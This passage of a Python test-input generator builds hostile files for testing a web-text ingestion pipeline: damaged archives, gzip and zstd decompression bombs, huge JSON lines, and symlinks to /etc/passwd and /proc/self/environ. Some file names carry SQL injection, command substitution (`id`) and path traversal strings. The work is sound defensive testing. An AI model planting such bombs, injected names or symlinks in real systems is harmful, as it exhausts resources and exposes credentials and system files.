    ),
}
"""What stands behind a name → how records are stored under it."""


def _stored_name(name: str, kind: str, stored: str) -> str:
    """`page.html.gz`, also where the middle of `stored` only tells how records are stored."""
    middle, _, last = stored.rpartition(".")
    return f"{name}{middle}.{kind}{f'.{last}' if last else ''}"


def small_pages(rng: Random) -> list[tuple[str, str, bytes]]:
    """Every hostile page of ordinary size, in an order of its own."""
    pages = [
        *injected(rng), *canonical(rng), *structured_data(rng), *encodings(rng), *structures(rng), *polyglots(rng),
        *mutated(rng, 300),
    ]  # fmt: skip
    rng.shuffle(pages)
    return pages


def inputs_of_pages(
    rng: Random, pages: list[tuple[str, str, bytes]], together: int = 25
) -> Iterator[Hostile]:
    """The pages as files of their own, as lines and as WARC records, each stored in every way."""
    ways = itertools.cycle(STORED)
    for number, group in enumerate(iter(lambda: [pages.pop() for _ in range(min(together, len(pages)))], [])):
        stored = next(ways)
        match number % 5:
            case 0:
                lines = [json_line(kind, page, at) for at, (_, kind, page) in enumerate(group)]
                name = _stored_name(f"lines/{number:04}", "jsonl", stored)
                yield Hostile(name, "pages in lines", STORED[stored](lines), len(lines), len(lines))
            case 1:
                records = warc_pages(group)
                name = _stored_name(f"records/{number:04}", "warc", stored)
                yield Hostile(name, "pages in records", STORED[stored](records), len(records), len(records))
            case _:
                for at, (family, kind, page) in enumerate(group):
                    stored = next(ways) if at % 3 == 0 else ""
                    name = _stored_name(f"files/{number:04}-{at:02}", kind, stored)
                    yield Hostile(name, family, STORED[stored]([page]), 1, 1)


def hostile_lines(rng: Random) -> Iterator[Hostile]:
    """Lines that are no pages, among lines that are."""
    lines = [line.replace(b"\n", b" ") + b"\n" for line in LINES]
    between = [json_line("html", honest(rng).encode(), number) for number in range(len(lines))]
    mixed = [line for pair in zip(lines, between, strict=True) for line in pair]
    for stored, store in STORED.items():
        name = _stored_name("lines/odd", "jsonl", stored)
        yield Hostile(name, "lines", store(mixed), len(mixed), len(mixed))
    for number, line in enumerate(LINES):
        yield Hostile(f"lines/alone-{number:02}.jsonl", "lines", line)
    yield Hostile("lines/no-end.jsonl", "lines", between[0].rstrip(), 1, 1)
    yield Hostile("lines/blank.jsonl", "lines", b"\n \r\n\t\n", 0, 0)
    yield Hostile("lines/returns.jsonl", "lines", b"\r".join(between))


def hostile_records(rng: Random) -> Iterator[Hostile]:
    ways = itertools.cycle(STORED)
    for number, (family, records, count, pages) in enumerate(warc_oddities(rng)):
        stored = next(ways)
        if count is None and stored == ".zst":
            stored = ""
        name = _stored_name(f"records/odd-{number:03}", "warc", stored)
        yield Hostile(name, family, STORED[stored](records), count, pages)


def damaged(rng: Random, each: int = 8) -> Iterator[Hostile]:
    """Every format stored in every way, cut, flipped, with bytes before, between and behind."""
    pages = [("", "html", honest(rng, title=f"Ferry {n} returns").encode()) for n in range(8)]
    formats: dict[str, list[bytes]] = {
        "txt": [flattened(rng).encode()],
        "html": [pages[0][2]],
        "jsonl": [json_line(kind, page, at) for at, (_, kind, page) in enumerate(pages)],
        "warc": warc_pages(pages),
        "wet": [
            warc_record(flattened(rng).encode(), kind="conversion", media="text/plain") for _ in range(8)
        ],
    }
    for (kind, records), (stored, store) in itertools.product(formats.items(), STORED.items()):
        whole = store(records)
        for number in range(each):
            at, bad = rng.randrange(len(whole)), bytearray(whole)
            harm = ("cut", "flipped", "cut out", "foreign", "doubled", "behind", "before", "zeros")[
                number % 8
            ]
            match harm:
                case "cut":
                    del bad[at:]
                case "flipped":
                    for _ in range(rng.choice((1, 1, 5))):
                        bad[rng.randrange(len(bad))] ^= 1 << rng.randrange(8)
                case "cut out":
                    del bad[at : at + rng.randint(1, 300)]
                case "foreign":
                    bad[at : at + 100] = rng.randbytes(100)
                case "doubled":
                    bad[at:at] = bad[max(0, at - 500) : at]
                case "behind":
                    bad += rng.randbytes(rng.randint(1, 500))
                case "before":
                    bad[:0] = rng.randbytes(rng.randint(1, 10))
                case "zeros":
                    bad += bytes(5_000)
            name = _stored_name(f"damaged/{kind}-{harm.replace(' ', '-')}-{number}", kind, stored)
            # What is wrong behind a whole compressed page is told beside it.
            one = 1 if kind in ("txt", "html") and not stored else None
            yield Hostile(name, f"{harm} {kind}", bytes(bad), one, one)
    for kind, compression in itertools.product(formats, ("", ".gz", ".zst")):
        none = {"txt": 1, "html": 1}.get(kind, 0) if not compression else None
        yield Hostile(f"damaged/empty.{kind}{compression}", "empty", b"", none, none)
        plain = b"".join(formats[kind])
        if compression:
            yield Hostile(f"damaged/not-packed.{kind}{compression}", "not packed", plain)
        else:
            yield Hostile(f"damaged/packed.{kind}", "packed unsaid", gzip.compress(plain, mtime=0))


def names(rng: Random) -> Iterator[Hostile]:
    """Names that no shell, URI or database expects, and what is no file at all."""
    odd = (
        "new\nline", "tab\tname", "-rf", "--help", "'; DROP TABLE x; --", '"quoted"', "100%", "%2e%2e%2f", "a b", "..a", "a..",
        "#fragment", "?query", "back\\slash", "semi;colon", "{source}", "\u202eright", "e\u0301", "é", "\udcff\udcfe", "\x1b[31m",
        "*", "[x]", "~", "$HOME", "`id`", "名前", "😀", "a" * 250, "con", "x.html.html", "x.txt.gz.gz", "file:", "\x01",
    )  # fmt: skip
    for name in odd:
        read = 0 if name.startswith(".") else 1
        page = flattened(rng, title=name.replace("\udcff\udcfe", "")).encode()
        yield Hostile(f"names/{name[:250]}.txt", "names", page, read, read)
    yield Hostile("names/deep/" + "d/" * 100 + "x.txt", "names", flattened(rng).encode(), 1, 1)
    for name in (".hidden.html", ".git/x.html", "x.exe", "html", ".html", "x.html~", "x.gz"):
        yield Hostile(f"names/passed/{name}", "passed over", honest(rng).encode(), 0, 0)

    def link(target: str, path: Path) -> None:
        path.symlink_to(target)

    for name, target in (
        ("loop", "."), ("up", "../.."), ("root", "/"), ("self.html", "self.html"), ("passwd.txt", "/etc/passwd"),
        ("zero.txt", "/dev/zero"), ("gone.html", "nowhere"), ("stdin.html", "/dev/stdin"), ("proc.txt", "/proc/self/environ"),
    ):  # fmt: skip
        yield Hostile(f"links/{name}", "links", partial(link, target), 0, 0)
    yield Hostile("links/pipe.html", "no files", lambda path: os.mkfifo(path), 0, 0)

    def listen(path: Path) -> None:
        here = Path.cwd()
        os.chdir(path.parent)  # the name of a socket must be short
        try:
            with socket.socket(socket.AF_UNIX) as made:
                made.bind(path.name)
        finally:
            os.chdir(here)

    yield Hostile("links/socket.html", "no files", listen, 0, 0)
    yield Hostile("links/directory.html", "no files", lambda path: path.mkdir(), 0, 0)


def giants(rng: Random) -> Iterator[Hostile]:
    """Bombs, lines of 50 MB, a million of everything. Small on disk where compression makes them so."""
    mega = 1024 * 1024
    page, text = honest(rng).encode(), flattened(rng).encode()
    for number, (family, kind, content) in enumerate(structures(rng, giant=True)):
        zst = zstandard.compress(content)
        yield Hostile(f"giants/{number:02}.{kind}.zst", f"a million: {family}", zst, 1, 1, giant=True)
    line = b"word " * (10 * mega)
    as_json = b'{"text": "%b"}\n%b' % (line, json_line("html", page, 1))
    for kind, content, count in (
        ("txt", line, 1), ("html", b"<html><body><p>" + line, 1), ("jsonl", as_json, 2), ("warc", warc_record(http(line)) + warc_record(http(page)), 2),
    ):  # fmt: skip
        yield Hostile(f"giants/line.{kind}", "50 MB in one line", content, count, count, giant=True)
        for suffix, pack in ((".gz", gzip_fast), (".zst", zstandard.compress)):
            yield Hostile(
                f"giants/line.{kind}{suffix}", "50 MB in one line", pack(content), count, count, giant=True
            )
    for size in (300, 2_000):
        bomb = _bomb(size * mega)
        for kind in ("txt", "html"):
            yield Hostile(f"giants/bomb-{size}.{kind}.gz", "bomb", bomb, 1, 1, giant=True)
        yield Hostile(f"giants/bomb-{size}.jsonl.gz", "bomb", bomb, 1, 1, giant=True)
        yield Hostile(f"giants/bomb-{size}.warc.gz", "bomb", bomb, giant=True)
        flat = zstandard.ZstdCompressor(level=3)
        held = io.BytesIO()
        with flat.stream_writer(held, closefd=False) as writer:
            for _ in range(size):
                writer.write(bytes(mega))
        for kind in ("html", "jsonl", "warc"):
            yield Hostile(f"giants/bomb-{size}.{kind}.zst", "bomb", held.getvalue(), giant=True)
    inner = _bomb(1_000 * mega)
    held_bombs = [
        warc_record(http(page)), warc_record(http(inner, "Content-Encoding: gzip")), warc_record(http(inner)),
        warc_record(http(gzip.compress(inner, mtime=0), "Content-Encoding: gzip, gzip")), warc_record(http(page)),
    ]  # fmt: skip
    yield Hostile("giants/bombs.warc", "bombs in records", b"".join(held_bombs), 5, 5, giant=True)
    yield Hostile(
        "giants/bombs.warc.gz", "bombs in records", gzip_fast(b"".join(held_bombs)), 5, 5, giant=True
    )
    wide = '{"text": "😀%s"}\n' % ("x" * 39_000_000)
    yield Hostile("giants/wide.jsonl.gz", "a wide line", gzip_fast(wide.encode() * 2), 2, 2, giant=True)
    escapes = b'{"text": "' + b"\\u4e00" * 6_600_000 + b'"}\n'
    yield Hostile("giants/escapes.jsonl.zst", "escapes", zstandard.compress(escapes * 3), 3, 3, giant=True)
    keys = b"{" + b",".join(b'"k%d":%d' % (n, n) for n in range(2_400_000)) + b"}\n"
    yield Hostile("giants/keys.jsonl.zst", "keys", zstandard.compress(keys), 1, 1, giant=True)
    lists = b'{"a":' + b"[[]," * 9_000_000 + b"[]" + b"]" * 9_000_000 + b"}\n"
    yield Hostile("giants/lists.jsonl.zst", "lists", zstandard.compress(lists), 1, 1, giant=True)
    flat_lists = b'{"a":[' + b"{}," * 13_000_000 + b'{}],"text":"x"}\n'
    yield Hostile("giants/objects.jsonl.zst", "objects", zstandard.compress(flat_lists), 1, 1, giant=True)
    nearly = [json_line("txt", text + b"word " * 1_900_000, n) for n in range(30)]
    yield Hostile(
        "giants/nearly.jsonl.gz", "pages below the limit", gzip_fast(b"".join(nearly)), 30, 30, giant=True
    )
    tiny = gzip.compress(b"", mtime=0) * 400_000
    yield Hostile(
        "giants/members.html.gz", "empty members", tiny + gzip.compress(page, mtime=0), 1, 1, giant=True
    )
    yield Hostile(
        "giants/frames.jsonl.zst", "empty frames", zstandard.compress(b"") * 400_000, 0, 0, giant=True
    )
    skippable = struct.pack("<II", 0x184D2A50, 0xFFFFFFFF)
    yield Hostile("giants/skip.html.zst", "a frame to skip", skippable + page, 1, 1, giant=True)
    yield Hostile("giants/blanks.jsonl.gz", "blank lines", gzip_fast(b"\n" * (200 * mega)), 0, 0, giant=True)
    headers = warc_record(http(page), extra="".join(f"X-{n}: y\r\n" for n in range(5_000)))
    yield Hostile("giants/headers.warc.gz", "headers", gzip_fast(headers * 20), 20, 20, giant=True)


def gzip_fast(content: bytes) -> bytes:
    return gzip.compress(content, 1, mtime=0)


def _bomb(size: int) -> bytes:
    """Zeros in one gzip member, a thousand times as many as it has bytes."""
    held = io.BytesIO()
    with gzip.GzipFile(fileobj=held, mode="wb", compresslevel=9, mtime=0) as packed:
        for _ in range(size >> 20):
            packed.write(bytes(1 << 20))
    return held.getvalue()


# --- the landing zone -------------------------------------------------------------------------------


def hostile_inputs(seed: int, *, with_giants: bool) -> list[Hostile]:
    """All inputs. The same for the same seed."""
    rng = Random(seed)  # noqa: S311  no secret
    found = [
        *inputs_of_pages(rng, small_pages(rng)), *hostile_lines(rng), *hostile_records(rng), *damaged(rng), *names(rng),
    ]  # fmt: skip
    if with_giants:
        found += giants(rng)
    return found


def make(inputs: Iterable[Hostile], zone: Path) -> None:
    """Write the inputs into a landing zone."""
    for each in inputs:
        path = zone / each.name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(each.content, bytes):
            path.write_bytes(each.content)
        else:
            each.content(path)


def sample(inputs: list[Hostile], size: int, seed: int) -> list[Hostile]:
    """Some inputs, of every family at least one as far as they go."""
    rng = Random(seed)  # noqa: S311
    chosen = {each.family: each for each in rng.sample(inputs, len(inputs))}
    rest = [each for each in inputs if each is not chosen[each.family]]
    first = rng.sample(list(chosen.values()), min(size, len(chosen)))
    return first + rng.sample(rest, min(len(rest), max(0, size - len(first))))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("directory", type=Path, help="made anew; must be empty or not exist")
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--sample", type=int, help="only so many inputs")
    parser.add_argument("--without-giants", action="store_true", help="leave out what takes seconds each")
    wanted = parser.parse_args()
    inputs = hostile_inputs(wanted.seed, with_giants=not wanted.without_giants)
    if wanted.sample:
        inputs = sample(inputs, wanted.sample, wanted.seed)
    wanted.directory.mkdir(parents=True, exist_ok=True)
    make(inputs, wanted.directory)
    told = [
        {**asdict(replace(each, content=b"", name=quote(os.fsencode(each.name)))), "content": None}
        for each in inputs
    ]
    (wanted.directory / "manifest.json").write_text(json.dumps(told, indent=1))
    records = sum(each.records or 0 for each in inputs)
    print(f"{len(inputs)} inputs with {records} records and more in damaged ones, in {wanted.directory}")


if __name__ == "__main__":
    main()
